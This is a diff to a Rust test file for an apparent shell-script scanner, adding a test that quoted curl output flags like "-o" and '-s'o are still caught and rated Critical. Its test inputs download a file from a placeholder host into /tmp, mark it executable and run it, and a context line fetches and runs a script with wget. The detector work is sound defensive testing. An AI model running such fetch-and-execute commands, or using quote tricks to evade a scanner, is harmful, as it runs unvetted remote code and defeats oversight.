@@ -32,6 +32,16 @@ fn a_short_output_flag_is_a_single_dash_word_with_an_o() {
 }
 
 #[test]
+fn a_quoted_output_flag_is_an_output_flag() {
+    // The shell drops the quotes: `"-o"` is `-o`, `'-s'o` is `-so`.
+    let run = |fetch: &str| format!("{fetch} https://h.example/a\nchmod +x /tmp/.agent && /tmp/.agent\n");
+    assert_severity(&run("curl \"-o\" /tmp/.agent"), EXEC, Critical);
+    assert_severity(&run("curl '-s'o /tmp/.agent"), EXEC, Critical);
+    // Quotes inside a word join it: `x"-o"` is the word `x-o`, no flag.
+    assert!(!may_write_file("curl x\"-o\" https://h.example/a"));
+}
+
+#[test]
 fn plain_wget_saves_a_file_without_any_flag() {
     // No output flag, no redirection: `wget` itself writes the file.
     let body = "wget https://h.example/tools/agent.sh\nsh agent.sh\n";
